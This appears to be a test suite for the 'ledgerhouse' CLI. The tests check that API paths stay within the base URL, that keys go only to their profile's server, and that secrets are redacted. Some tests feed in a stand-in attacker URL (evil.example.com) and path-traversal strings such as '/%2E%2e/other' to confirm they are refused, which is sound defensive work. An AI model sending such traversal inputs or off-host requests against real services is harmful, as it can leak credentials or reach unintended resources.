  test('works without a key, and never leaves the service', async () => {
    server.react(answer(200, '{}'));
    const open = await cli.run(['api', 'GET', 'openapi.json'], {
      env: { LEDGERHOUSE_API_KEY: undefined },
    });
    expect(open.code).toBe(0);
    expect(server.requests[0]?.headers['x-api-key']).toBeUndefined();
    for (const path of ['https://evil.example.com/x', '//evil.example.com/x']) {
      expect((await cli.run(['api', 'GET', path])).code).toBe(2);
    }
    expect(server.requests).toHaveLength(1);
  });

  test('a path does not lead out of the base URL', async () => {
    server.react(answer(200, {}));
    const elsewhere = [
      '..',
      '/../other',
      '/api/../../other',
      '/%2E%2e/other',
      '/a/.%2e/..\\..',
      '/.',
    ];
    for (const path of elsewhere) {
      const { code, stderr } = await cli.run(['api', 'GET', path, '-b', `${server.url}/tenant`]);
      expect([path, code]).toEqual([path, 2]);
      expect(stderr).toContain('dots');
    }
    expect(server.requests).toEqual([]);
    expect((await cli.run(['api', 'GET', '/databases?name=../..'])).code).toBe(0);
    expect(sentLines()).toEqual(['GET /api/v1/databases?name=../..']);
  });

  test('a POST that may have arrived is not sent again', async () => {
    server.react(cut, answer(200, '{}'));
    expect((await cli.run(['api', 'POST', '/databases', '--payload', '{}'])).code).toBe(10);
    expect(server.requests).toHaveLength(1);
  });
});

describe('config', () => {
  const own = { LEDGERHOUSE_API_KEY: undefined, LEDGERHOUSE_BASE_URL: undefined };

  test('profiles: set, used, shown without secrets, in a file for its owner alone', async () => {
    const run = (args: readonly string[], stdin = '') => cli.run(args, { env: own, stdin });
    expect((await run(['config', 'set', 'base-url', 'http://127.0.0.1:1'])).code).toBe(0);
    expect(
      (await run(['config', 'set', 'base-url', `${server.url}/`, '--profile', 'staging'])).code,
    ).toBe(0);
    expect((await run(['config', 'set', 'api-key', '--profile', 'staging'], `${key}\n`)).code).toBe(
      0,
    );
    expect((await run(['config', 'use', 'staging'])).code).toBe(0);
    const file = (await run(['config', 'path'])).stdout.trim();
    expect(file).toBe(join(cli.home, 'config/ledgerhouse/config.json'));
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(statSync(join(file, '..')).mode & 0o777).toBe(0o700);
    const list = await run(['config', 'list']);
    expect(list.stdout).toContain('lhk_AbCdEfGhIjKl_(redacted)');
    const shown = await run(['config', 'get', 'api-key']);
    expect(list.stdout + shown.stdout).not.toContain('sss');
    server.react(answer(200, sessionExample));
    expect((await run(['whoami'])).code).toBe(0);
    expect(server.requests[0]?.headers['x-api-key']).toBe(key);
    await run(['config', 'unset', 'api-key']);
    expect((await run(['whoami'])).code).toBe(4);
    await run(['config', 'remove', 'staging']);
    expect((await run(['config', 'use', 'staging'])).code).toBe(2);
    expect((await run(['whoami', '--profile', 'staging'])).stderr).toContain(
      'no profile "staging"',
    );
  });

  test('a profile’s key never goes to another service than the profile’s', async () => {
    const other = new RecordingServer();
    await other.listen();
    try {
      other.react(answer(401, { code: 'authentication_required', title: 'No', status: 401 }));
      await cli.run(['config', 'set', 'base-url', server.url, '--profile', 'bound']);
      await cli.run(['config', 'set', 'api-key', '--profile', 'bound'], { stdin: `${key}\n` });
      const ways = [
        { args: ['-b', other.url], env: own },
        { args: [], env: { ...own, LEDGERHOUSE_BASE_URL: other.url } },
      ];
      for (const { args, env } of ways) {
        const { code, stderr } = await cli.run(['whoami', '--profile', 'bound', ...args], { env });
        expect({ code, stderr }).toMatchObject({
          code: 4,
          stderr: expect.stringContaining(`is for ${server.url} and is not sent to ${other.url}`),
        });
      }
      expect(other.requests.filter(({ headers }) => 'x-api-key' in headers)).toEqual([]);
      server.react(answer(200, sessionExample));
      const same = ['whoami', '--profile', 'bound', '-b', `${server.url}/api/v1/`];
      expect((await cli.run(same, { env: own })).code).toBe(0);
    } finally {
      await cli.run(['config', 'remove', 'bound']);
      await other.close();
    }
  });

  test('a flag beats the environment, the environment beats the profile', async () => {
    const other = new RecordingServer();
    await other.listen();
    await cli.run(['config', 'set', 'base-url', 'http://127.0.0.1:1']);
    server.react(answer(200, sessionExample));
    other.react(answer(200, sessionExample));
    const environment = await cli.run(['whoami']);
    const flag = await cli.run(['whoami', '-b', other.url, '--api-key', 'lhk_flag']);
    await other.close();
    expect([environment.code, flag.code]).toEqual([0, 0]);
    expect([server.requests.length, other.requests[0]?.headers['x-api-key']]).toEqual([
      1,
      'lhk_flag',
    ]);
  });

  test('a base URL with /api/v1 or a slash at its end is the same service', async () => {
    server.react(answer(200, sessionExample));
    await cli.run(['whoami', '-b', `${server.url}/api/v1/`]);
    await cli.run(['whoami', '-b', `${server.url}/behind/`]);
    expect(sentLines()).toEqual(['GET /api/v1/session', 'GET /behind/api/v1/session']);
  });

  test.each(['nonsense', 'ftp://x', 'http://user:pass@x', 'http://x/?a=1'])(
    '%s is not a base URL',
    async (url) => {
      const { code, stderr } = await cli.run(['whoami', '-b', url]);
      expect(code).toBe(2);
      expect(stderr).not.toContain('pass@');
    },
  );

  test('a key with blanks or line ends is refused without being shown', async () => {
    const { code, stderr } = await cli.run(['whoami'], {
      env: { LEDGERHOUSE_API_KEY: 'abc\ndef ghi' },
    });
    expect(code).toBe(4);
    expect(stderr).not.toContain('abc');
    const given = await cli.run(['config', 'set', 'api-key', 'lhk_secret']);
    expect(given.code).toBe(2);
    expect(given.stderr).not.toContain('lhk_secret');
  });

  test('a file that others can read is warned about, one that is broken is named and left alone', async () => {
    await cli.run(['config', 'set', 'api-key'], { stdin: key });
    const file = join(cli.home, 'config/ledgerhouse/config.json');
    chmodSync(file, 0o644);
    server.react(answer(200, sessionExample));
    expect((await cli.run(['whoami'])).stderr).toContain('chmod 600');
    writeFileSync(file, '{"secret": "lhk_x');
    const broken = await cli.run(['config', 'set', 'base-url', 'http://x']);
    expect(broken.code).toBe(1);
    expect(broken.stderr).toContain(`${file} is not JSON`);
    expect(broken.stderr).not.toContain('lhk_x');
    expect(readFileSync(file, 'utf8')).toBe('{"secret": "lhk_x');
  });

  test('the address is the contract’s production server unless something says otherwise', () => {
    const document = JSON.parse(readFileSync(join(checkout, 'gen/openapi.json'), 'utf8')) as {
      servers: readonly { url: string; description: string }[];
    };
    const production = document.servers.find(({ description }) => description === 'production');
    expect(production?.url).toBe(productionUrl);
  });
});

describe('help, version, completion', () => {
  test('help goes to standard output, and a wrong command to standard error', async () => {
    const help = await cli.run(['tb', '--help']);
    expect(help).toMatchObject({ code: 0, stderr: '' });
    for (const name of ['create-accounts', 'query-transfers', '--base-url', '--json']) {
      expect(help.stdout).toContain(name);
    }
    const wrong = await cli.run(['databses']);
    expect(wrong).toMatchObject({ code: 2, stdout: '' });
    expect(wrong.stderr).toContain('did you mean "databases"?');
    expect((await cli.run(['--frob'])).stderr).toContain('unknown flag "--frob"');
    const json = await cli.run(['databses', '--json']);
    expect(json).toMatchObject({ code: 2, stderr: '' });
    expect(JSON.parse(json.stdout)).toMatchObject({ code: 'usage', outcome: 'error' });
  });

  test('without any word there is help', async () => {
    expect((await cli.run([])).stdout).toContain('Usage: ledgerhouse <command>');
    expect((await cli.run(['--version'])).stdout).toMatch(/^ledgerhouse \d+\.\d+\.\d+\n$/);
  });

  test('the script of bash completes commands, flags and values', async () => {
    const script = [
      `ledgerhouse() { ${join(checkout, 'bin/ledgerhouse')} "$@"; }`,
      '. <(ledgerhouse completion bash)',
      'try() { COMP_WORDS=("$@"); COMP_CWORD=$(($# - 1)); _ledgerhouse; echo "${COMPREPLY[*]}"; }',
      'try ledgerhouse tb create-',
      "try ledgerhouse tb query-accounts db_1 --flag ''",
    ].join('\n');
    const { stdout } = await shell('bash', ['-c', script]);
    expect(stdout).toBe('create-accounts create-transfers\nreversed\n');
    expect((await cli.run(['completion', 'tcsh'])).code).toBe(2);
  });

  test('errors are reported once', async () => {
    const errors = [{ pointer: '#/name', code: 'required', detail: 'This is required.' }];
    const detail = '#/name: This is required.';
    server.react(answer(422, { ...problem(422, 'validation_failed'), detail, errors }));
    const { code, stderr } = await cli.run(['databases', 'create', 'x']);
    expect(code).toBe(3);
    expect(stderr.split('This is required.')).toHaveLength(2);
  });

  test('a reader that stops reading the notes changes neither the work nor the exit status', async () => {
    server.react(answer(200, { result: [{ index: 0, id: '1', status: 'created' }] }));
    const { code, stdout } = await shell(
      'bash',
      [
        '-c',
        // The pipe's reader is gone before anything is written.
        `exec 3> >(true); wait $!; ${join(checkout, 'bin/ledgerhouse')} tb create-accounts db_1 --ledger 1 --code 1 2>&3`,
      ],
      { env: { LEDGERHOUSE_API_KEY: key, LEDGERHOUSE_BASE_URL: server.url, HOME: cli.home } },
    );
    expect(code).toBe(0);
    expect(stdout).toContain('created');
    expect(server.requests).toHaveLength(1);
  });

  test('a reader that stops reading is no failure', async () => {
    const { code, stderr } = await shell('bash', [
      '-c',
      `set -o pipefail; ${join(checkout, 'bin/ledgerhouse')} tb create-transfers --help | true`,
    ]);
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  });

  test('a result that does not fit is a failure', async () => {
    server.react(answer(200, { result: [{ id: '1', timestamp: '1' }] }));
    const { code, stderr } = await shell(
      'bash',
      ['-c', `${join(checkout, 'bin/ledgerhouse')} export db_1 --what accounts > /dev/full`],
      { env: { LEDGERHOUSE_API_KEY: key, LEDGERHOUSE_BASE_URL: server.url, HOME: cli.home } },
    );
    expect({ code, stderr }).toEqual({
      code: 1,
      stderr: 'error: standard output cannot be written (ENOSPC)\n',
    });
  });

  test('neither does a file take a part of the result quietly', async () => {
    const row = { id: '1', timestamp: '1', user_data_128: '0'.repeat(200_000) };
    server.react(answer(200, { result: [row] }));
    const { code, stderr } = await shell(
      'bash',
      [
        '-c',
        // The limit of a file's size cuts a write as a full disk does.
        `trap '' XFSZ; ulimit -f 64; ${join(checkout, 'bin/ledgerhouse')} export db_1 --what accounts > ${cli.home}/part`,
      ],
      { env: { LEDGERHOUSE_API_KEY: key, LEDGERHOUSE_BASE_URL: server.url, HOME: cli.home } },
    );
    expect(code).toBe(1);
    expect(stderr).toContain('standard output cannot be written (EFBIG)');
    expect(stderr).toContain('0 rows are written; to continue: --after 0, or');
  });
});
